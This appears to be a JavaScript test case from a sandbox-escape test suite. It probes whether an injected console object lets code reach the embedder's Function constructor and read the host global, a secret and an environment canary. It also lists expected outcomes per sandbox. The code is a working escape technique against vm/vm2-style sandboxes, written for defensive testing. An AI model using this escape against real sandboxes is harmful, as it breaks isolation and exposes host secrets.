/*---
id: proto-console-function
title: console.log.constructor — a function handed in by the embedder
category: prototype
goal: Use the console the embedder injects as a bridge: its methods' Function constructor (or its prototype chain via __proto__) belongs to the embedder's realm; leak that realm's global and env canaries.
technique: `console.log.constructor('return globalThis')()` and `console.__proto__.constructor.constructor(...)`: a function object carries its realm's Function constructor, so any injected function is a way out unless it was created inside.
references: https://nodejs.org/api/vm.html#vm-executing-javascript, CVE-2023-32314, https://github.com/patriksimek/vm2/issues/533
expect: * = escaped; *+isolated-vm = contained; *+quickjs = contained
expect-hardened: * = contained; host = escaped; host+vm = escaped
---*/
const routes = {
  'console.log.constructor': () => console.log.constructor,
  'console.__proto__.constructor.constructor': () => console.__proto__.constructor.constructor,
  'getPrototypeOf(console.error).constructor': () => Object.getPrototypeOf(console.error).constructor,
};
const leaked = {};
for (const [route, get] of Object.entries(routes)) {
  try {
    const F = get();
    const g = F('return globalThis')();
    leaked[route] = {
      foreign: F !== Function,
      hostSecret: g.__hostSecret,
      env: g.process ? g.process.env.WORKBENCH_CANARY : undefined,
    };
  } catch (e) {
    leaked[route] = String(e).slice(0, 80);
  }
}
console.log('console routes:', JSON.stringify(leaked));
leaked;
